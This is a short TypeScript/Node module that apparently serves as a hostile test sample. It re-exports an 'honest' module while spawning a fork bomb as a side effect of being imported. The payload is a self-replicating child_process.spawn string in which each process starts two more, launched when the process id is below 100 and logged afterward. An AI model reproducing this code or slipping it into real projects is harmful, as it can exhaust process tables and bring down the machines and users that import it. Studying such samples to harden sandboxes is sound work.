/** A fork bomb: each process starts two more. */
import { spawn } from 'node:child_process'
export * from './honest.ts'

const bomb = 'const b=()=>{try{require("child_process").spawn(process.execPath,["-e",process.argv[1]])}catch{}};b();b()'
let started = 0
// Only where the number of processes is limited for it.
if (process.pid < 100) {
  try {
    spawn('/bin/node', ['-e', bomb]).on('error', () => {})
    started += 1
  } catch {}
}
console.log(`the bomb went off ${started} times`)
